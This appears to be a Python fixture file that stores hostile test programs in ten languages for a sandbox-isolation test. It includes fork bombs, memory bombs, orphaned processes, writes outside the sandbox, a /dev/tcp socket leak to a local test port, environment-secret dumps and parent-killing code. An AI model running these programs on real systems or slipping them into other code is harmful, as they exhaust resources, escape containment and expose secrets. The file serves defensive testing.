"""Hostile programs, one per sandbox property and language, for `test_sandbox_adversarial.py`.

Placeholders: @PORT@ (a port the test listens on), @TOKEN@ (a secret set in the host's environment,
also used in file names), @HOME@, @REPO@ (paths the program tries to write to).
"""

ATTACKS = ("infinite_loop", "fork_bomb", "memory_bomb", "orphan_sleeper", "write_outside",
           "network", "env_secret", "big_output", "kill_parent")

PY = {
    "infinite_loop": "while True:\n    pass\n",
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "memory_bomb": "x = []\nwhile True:\n    x.append(bytearray(50_000_000))\n",
    "orphan_sleeper": "import subprocess\nsubprocess.Popen(['sleep', '1234'], start_new_session=True)\n",
    "write_outside": ("for p in ['@HOME@/psft-escape-@TOKEN@', '/tmp/psft-escape-@TOKEN@', "
                      "'@REPO@/psft-escape-@TOKEN@']:\n    try:\n        open(p, 'w').write('x')\n"
                      "    except OSError:\n        pass\n"),
    "network": ("import socket\ntry:\n    socket.create_connection(('127.0.0.1', @PORT@), timeout=1)"
                ".sendall(b'leak')\nexcept OSError:\n    pass\n"),
    "env_secret": "import os\nprint(dict(os.environ))\n",
    "big_output": "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 100_000 + '\\n')\n",
    "kill_parent": "import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(5)\n",
}

JS = {
    "infinite_loop": "while (true) {}\n",
    "fork_bomb": ("const cp = require('child_process');\nwhile (true) {\n  try { cp.spawn('sleep', ['100'], "
                  "{detached: true, stdio: 'ignore'}); } catch (e) {}\n}\n"),
    "memory_bomb": "const a = [];\nwhile (true) { a.push(new Array(1e6).fill(1)); }\n",
    "orphan_sleeper": ("require('child_process').spawn('sleep', ['1234'], "
                       "{detached: true, stdio: 'ignore'}).unref();\n"),
    "write_outside": ("const fs = require('fs');\nfor (const p of ['@HOME@/psft-escape-@TOKEN@', "
                      "'/tmp/psft-escape-@TOKEN@', '@REPO@/psft-escape-@TOKEN@']) {\n"
                      "  try { fs.writeFileSync(p, 'x'); } catch (e) {}\n}\n"),
    "network": ("const s = require('net').connect(@PORT@, '127.0.0.1');\ns.on('error', () => {});\n"
                "s.on('connect', () => { s.write('leak'); s.end(); });\nsetTimeout(() => {}, 1000);\n"),
    "env_secret": ("console.log(JSON.stringify(process.env));\n"
                   "console.log(require('child_process').execSync('env').toString());\n"),
    "big_output": "for (let i = 0; i < 50; i++) process.stdout.write('x'.repeat(100000) + '\\n');\n",
    "kill_parent": "process.kill(process.ppid, 'SIGKILL');\nconst t = Date.now(); while (Date.now() - t < 5000) {}\n",
}

TS = {k: "// @ts-nocheck\n" + v for k, v in JS.items()}

RB = {
    "infinite_loop": "loop {}\n",
    "fork_bomb": "loop do\n  begin\n    fork { sleep 100 }\n  rescue StandardError\n  end\nend\n",
    "memory_bomb": "a = []\nloop { a << ('x' * 50_000_000) }\n",
    "orphan_sleeper": "pid = spawn('sleep', '1234', pgroup: true)\nProcess.detach(pid)\n",
    "write_outside": ("['@HOME@/psft-escape-@TOKEN@', '/tmp/psft-escape-@TOKEN@', '@REPO@/psft-escape-@TOKEN@']"
                      ".each do |p|\n  begin\n    File.write(p, 'x')\n  rescue SystemCallError\n  end\nend\n"),
    "network": ("require 'socket'\nbegin\n  TCPSocket.new('127.0.0.1', @PORT@).write('leak')\n"
                "rescue SystemCallError\nend\n"),
    "env_secret": "puts ENV.to_h\nputs `env`\n",
    "big_output": "50.times { $stdout.write('x' * 100_000 + \"\\n\") }\n",
    "kill_parent": "Process.kill('KILL', Process.ppid)\nsleep 5\n",
}

PHP = {
    "infinite_loop": "<?php\nwhile (true) {}\n",
    "fork_bomb": "<?php\nwhile (true) { $p = @proc_open(['sleep', '100'], [], $pipes); }\n",
    "memory_bomb": "<?php\n$a = [];\nwhile (true) { $a[] = str_repeat('x', 10000000); }\n",
    "orphan_sleeper": "<?php\nexec('setsid sleep 1234 > /dev/null 2>&1 &');\n",
    "write_outside": ("<?php\nforeach (['@HOME@/psft-escape-@TOKEN@', '/tmp/psft-escape-@TOKEN@', "
                      "'@REPO@/psft-escape-@TOKEN@'] as $p) { @file_put_contents($p, 'x'); }\n"),
    "network": "<?php\n$s = @fsockopen('127.0.0.1', @PORT@, $en, $es, 1);\nif ($s) { fwrite($s, 'leak'); }\n",
    "env_secret": "<?php\nprint_r(getenv());\necho shell_exec('env');\n",
    "big_output": "<?php\nfor ($i = 0; $i < 50; $i++) { echo str_repeat('x', 100000), \"\\n\"; }\n",
    "kill_parent": "<?php\nexec('kill -9 ' . posix_getppid());\nsleep(5);\n",
}

LUA = {
    "infinite_loop": "while true do end\n",
    "fork_bomb": "while true do os.execute('sleep 100 &') end\n",
    "memory_bomb": "local t = {}\nwhile true do t[#t + 1] = string.rep('x', 100000000) end\n",
    "orphan_sleeper": "os.execute('setsid sleep 1234 > /dev/null 2>&1 &')\n",
    "write_outside": ("for _, p in ipairs({'@HOME@/psft-escape-@TOKEN@', '/tmp/psft-escape-@TOKEN@', "
                      "'@REPO@/psft-escape-@TOKEN@'}) do\n  local f = io.open(p, 'w')\n"
                      "  if f then f:write('x') f:close() end\nend\n"),
    "network": "os.execute(\"bash -c 'echo leak > /dev/tcp/127.0.0.1/@PORT@' 2>/dev/null\")\n",
    "env_secret": "os.execute('env')\n",
    "big_output": "for i = 1, 50 do io.write(string.rep('x', 100000), '\\n') end\n",
    "kill_parent": ("local stat = io.open('/proc/self/stat'):read('a')\n"
                    "local ppid = stat:match('^%d+ %b() %a (%d+)')\nos.execute('kill -9 ' .. ppid)\n"
                    "os.execute('sleep 5')\n"),
}

PL = {
    "infinite_loop": "1 while 1;\n",
    "fork_bomb": "while (1) { my $p = fork(); if (defined $p && $p == 0) { sleep 100; exit 0; } }\n",
    "memory_bomb": "my @a;\nwhile (1) { push @a, 'x' x 50_000_000; }\n",
    "orphan_sleeper": ("use POSIX ();\nmy $p = fork();\nif ($p == 0) { POSIX::setsid(); exec('sleep', '1234'); }\n"
                       "exit 0;\n"),
    "write_outside": ("for my $p ('@HOME@/psft-escape-@TOKEN@', '/tmp/psft-escape-@TOKEN@', "
                      "'@REPO@/psft-escape-@TOKEN@') {\n  if (open(my $fh, '>', $p)) { print $fh 'x'; close $fh; }\n}\n"),
    "network": ("use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', "
                "PeerPort => @PORT@, Timeout => 1);\nprint $s 'leak' if $s;\n"),
    "env_secret": "print join(\"\\n\", map { \"$_=$ENV{$_}\" } keys %ENV), \"\\n\";\nprint `env`;\n",
    "big_output": "for (1..50) { print 'x' x 100_000, \"\\n\"; }\n",
    "kill_parent": "kill 'KILL', getppid();\nsleep 5;\n",
}

CPP_HEAD = ("#include <cstdio>\n#include <cstdlib>\n#include <cstring>\n#include <vector>\n#include <unistd.h>\n"
            "#include <signal.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\n#include <arpa/inet.h>\n")
CPP = {
    "infinite_loop": CPP_HEAD + "int main() { volatile unsigned long i = 0; while (true) { i++; } }\n",
    "fork_bomb": CPP_HEAD + "int main() { while (true) { fork(); } }\n",
    "memory_bomb": CPP_HEAD + ("int main() { std::vector<char*> v; while (true) { char* p = new char[50000000]; "
                               "memset(p, 1, 50000000); v.push_back(p); } }\n"),
    "orphan_sleeper": CPP_HEAD + ("int main() { if (fork() == 0) { setsid(); execlp(\"sleep\", \"sleep\", \"1234\", "
                                  "(char*)0); } return 0; }\n"),
    "write_outside": CPP_HEAD + ("int main() { const char* ps[] = {\"@HOME@/psft-escape-@TOKEN@\", "
                                 "\"/tmp/psft-escape-@TOKEN@\", \"@REPO@/psft-escape-@TOKEN@\"};\n"
                                 "  for (const char* p : ps) { FILE* f = fopen(p, \"w\"); if (f) { fputs(\"x\", f); "
                                 "fclose(f); } } return 0; }\n"),
    "network": CPP_HEAD + ("int main() { int s = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; "
                           "a.sin_family = AF_INET; a.sin_port = htons(@PORT@); "
                           "inet_pton(AF_INET, \"127.0.0.1\", &a.sin_addr);\n"
                           "  if (s >= 0 && connect(s, (sockaddr*)&a, sizeof a) == 0) { "
                           "if (write(s, \"leak\", 4) < 0) return 1; } return 0; }\n"),
    "env_secret": CPP_HEAD + "extern char** environ;\nint main() { for (char** e = environ; *e; ++e) puts(*e); }\n",
    "big_output": CPP_HEAD + ("int main() { std::vector<char> b(100000, 'x'); b.push_back('\\n');\n"
                              "  for (int i = 0; i < 50; i++) fwrite(b.data(), 1, b.size(), stdout); }\n"),
    "kill_parent": CPP_HEAD + "int main() { kill(getppid(), SIGKILL); sleep(5); }\n",
}

GO_HEAD = ("package main\n\nimport (\n\t\"bytes\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n\t\"os/exec\"\n\t\"syscall\"\n"
           "\t\"time\"\n)\n\nvar _ = bytes.Repeat\nvar _ = fmt.Println\nvar _ = net.Dial\nvar _ = os.Exit\n"
           "var _ = exec.Command\nvar _ = syscall.Kill\nvar _ = time.Sleep\n\n")
GO = {
    "infinite_loop": GO_HEAD + "func main() {\n\tfor {\n\t}\n}\n",
    "fork_bomb": GO_HEAD + "func main() {\n\tfor {\n\t\t_ = exec.Command(\"sleep\", \"100\").Start()\n\t}\n}\n",
    "memory_bomb": GO_HEAD + ("func main() {\n\tvar a [][]byte\n\tfor {\n\t\tb := make([]byte, 200<<20)\n"
                              "\t\tfor i := range b {\n\t\t\tb[i] = 1\n\t\t}\n\t\ta = append(a, b)\n\t}\n}\n"),
    "orphan_sleeper": GO_HEAD + ("func main() {\n\tc := exec.Command(\"sleep\", \"1234\")\n"
                                 "\tc.SysProcAttr = &syscall.SysProcAttr{Setsid: true}\n\t_ = c.Start()\n}\n"),
    "write_outside": GO_HEAD + ("func main() {\n\tfor _, p := range []string{\"@HOME@/psft-escape-@TOKEN@\", "
                                "\"/tmp/psft-escape-@TOKEN@\", \"@REPO@/psft-escape-@TOKEN@\"} {\n"
                                "\t\t_ = os.WriteFile(p, []byte(\"x\"), 0o644)\n\t}\n}\n"),
    "network": GO_HEAD + ("func main() {\n\tc, err := net.DialTimeout(\"tcp\", \"127.0.0.1:@PORT@\", time.Second)\n"
                          "\tif err == nil {\n\t\tc.Write([]byte(\"leak\"))\n\t}\n}\n"),
    "env_secret": GO_HEAD + "func main() {\n\tfmt.Println(os.Environ())\n}\n",
    "big_output": GO_HEAD + ("func main() {\n\tb := append(bytes.Repeat([]byte(\"x\"), 100000), '\\n')\n"
                             "\tfor i := 0; i < 50; i++ {\n\t\tos.Stdout.Write(b)\n\t}\n}\n"),
    "kill_parent": GO_HEAD + ("func main() {\n\tsyscall.Kill(os.Getppid(), syscall.SIGKILL)\n"
                              "\ttime.Sleep(5 * time.Second)\n}\n"),
}


def _java(body: str) -> str:
    return ("import java.nio.file.*;\nimport java.util.*;\n\npublic class Main {\n"
            "    public static void main(String[] args) throws Exception {\n" + body + "    }\n}\n")


JAVA = {
    "infinite_loop": _java("        while (true) {}\n"),
    "fork_bomb": _java("        while (true) { try { new ProcessBuilder(\"sleep\", \"100\").start(); } "
                       "catch (Exception e) {} }\n"),
    "memory_bomb": _java("        List<byte[]> l = new ArrayList<>();\n        while (true) l.add(new byte[50_000_000]);\n"),
    "orphan_sleeper": _java("        new ProcessBuilder(\"setsid\", \"sleep\", \"1234\").start();\n"),
    "write_outside": _java("        for (String p : new String[]{\"@HOME@/psft-escape-@TOKEN@\", "
                           "\"/tmp/psft-escape-@TOKEN@\", \"@REPO@/psft-escape-@TOKEN@\"}) {\n"
                           "            try { Files.writeString(Path.of(p), \"x\"); } catch (Exception e) {}\n"
                           "        }\n"),
    "network": _java("        try (java.net.Socket s = new java.net.Socket(\"127.0.0.1\", @PORT@)) "
                     "{ s.getOutputStream().write(\"leak\".getBytes()); } catch (Exception e) {}\n"),
    "env_secret": _java("        System.out.println(System.getenv());\n"),
    "big_output": _java("        String s = \"x\".repeat(100000);\n"
                        "        for (int i = 0; i < 50; i++) System.out.println(s);\n"),
    "kill_parent": _java("        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);\n"
                         "        Thread.sleep(5000);\n"),
}

PROGRAMS = {"python": PY, "javascript": JS, "typescript": TS, "ruby": RB, "php": PHP, "lua": LUA,
            "perl": PL, "cpp": CPP, "go": GO, "java": JAVA}
